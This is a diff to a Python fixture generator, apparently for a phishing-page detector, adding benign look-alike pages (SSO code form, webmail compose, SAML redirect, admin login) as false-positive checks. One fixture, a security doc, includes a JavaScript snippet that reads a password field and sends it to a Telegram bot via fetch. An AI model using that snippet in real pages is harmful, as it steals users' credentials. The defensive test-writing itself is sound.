@@ -658,6 +658,53 @@ def b_cms_step_checkout(r):
     return {"checkout/address.php": s}
 
 
+def b_sso_otp(r):
+    """A rendered single-sign-on page: the one-time code posted to the identity provider's absolute address."""
+    idp = "https://sso.%s.example.com/realms/staff/login-actions/authenticate?session_code=%s&execution=%s" % (rnd(r, 5), rnd(r, 20), rnd(r, 12))
+    body = ('<div id="kc-form"><h1>Sign in to Staff Portal</h1>\n<form id="kc-otp-login-form" action="%s" method="post">\n'
+            '  <label for="otp">One-time code</label><input id="otp" name="otp" autocomplete="one-time-code" type="text" autofocus>\n'
+            '  <input type="submit" value="Sign In">\n</form></div>' % idp)
+    return {"login-otp.html": page(r, "Sign in to Staff Portal", body)}
+
+
+def b_webmail_compose(r):
+    body = ('<form id="compose" method="post">\n  <input name="to"><input name="cc"><input name="bcc"><input name="subject">\n  <textarea name="body"></textarea>\n'
+            '  <button>Send</button>\n</form>\n<script>\ndocument.getElementById("compose").onsubmit=function(e){e.preventDefault();\n'
+            "fetch('https://mail-api.%s.example.com/v1/messages',{method:'POST',credentials:'include',body:new FormData(this)}).then(function(){location.href='https://mail.%s.example.com/inbox';});};\n</script>" % (rnd(r, 5), rnd(r, 5)))
+    return {"compose.html": page(r, "Compose - Mail", body)}
+
+
+def b_login_component_test(r):
+    s = ("import { render, fireEvent } from '@testing-library/dom';\nimport { mountLogin } from '../src/login';\n\n"
+         "test('posts the credentials to the API and goes to the dashboard', async () => {\n"
+         "  document.body.innerHTML = '<form id=\"f\"><input name=\"email\"><input type=\"password\" name=\"password\"></form>';\n"
+         "  global.fetch = jest.fn(() => Promise.resolve({ ok: true }));\n  mountLogin(document.getElementById('f'), 'https://api.example.com/v1/login');\n"
+         "  document.querySelector('[name=password]').value = 'hunter2';\n  fireEvent.submit(document.getElementById('f'));\n"
+         "  expect(fetch).toHaveBeenCalledWith('https://api.example.com/v1/login', expect.anything());\n"
+         "  expect(window.location.href).toBe('https://app.example.com/dashboard');\n});\n")
+    return {"tests/login.test.js": s}
+
+
+def b_security_doc(r):
+    s = ("# How phishing kits steal passwords\n\nA cloned page reads the field and posts it to a bot:\n\n```html\n"
+         '<input type="password" id="pass">\n<script>\nfetch(\'https://api.telegram.org/bot<token>/sendMessage?chat_id=1&text=\'+document.getElementById(\'pass\').value);\n'
+         "location.href='https://www.example.com/';\n</script>\n```\n\nBlock outbound requests to api.telegram.org from your pages with a CSP.\n")
+    return {"docs/phishing-kits.md": s}
+
+
+def b_admin_login(r):
+    body = ('<form method="post" action="/admin/login">\n  <input type="hidden" name="_csrf" value="%s">\n  <input name="username"><input type="password" name="password">\n'
+            '  <button>Log in</button>\n</form>' % rnd(r, 32))
+    return {"admin/login.html": page(r, "Administration", body)}
+
+
+def b_saml_post(r):
+    body = ('<body onload="document.forms[0].submit()">\n<form method="post" action="https://idp.%s.example.org/saml2/sso">\n'
+            '  <input type="hidden" name="SAMLRequest" value="%s">\n  <input type="hidden" name="RelayState" value="%s">\n'
+            '  <noscript><input type="submit" value="Continue"></noscript>\n</form>' % (rnd(r, 5), rnd(r, 120, string.ascii_letters + string.digits), rnd(r, 12)))
+    return {"saml.html": page(r, "Redirecting", body)}
+
+
 MALICIOUS = [
     # name, function, minimum found rate, minimum high+ rate
     ("html_js_exfil", t_html_js_exfil, 1.0, 0.8),
@@ -682,6 +729,8 @@ BENIGN = [
     ("hosting_webmail", b_hosting_webmail), ("oauth_page", b_oauth_page), ("payment_hosted_form", b_payment_hosted),
     ("wallet_help", b_wallet_help), ("formmail", b_formmail), ("seo_htaccess", b_seo_htaccess),
     ("ua_parser_lib", b_ua_parser_lib), ("psr_logger", b_logger), ("checkout_steps", b_cms_step_checkout),
+    ("sso_otp_page", b_sso_otp), ("webmail_compose", b_webmail_compose), ("login_component_test", b_login_component_test),
+    ("security_doc_md", b_security_doc), ("admin_login", b_admin_login), ("saml_post", b_saml_post),
 ]
 
 
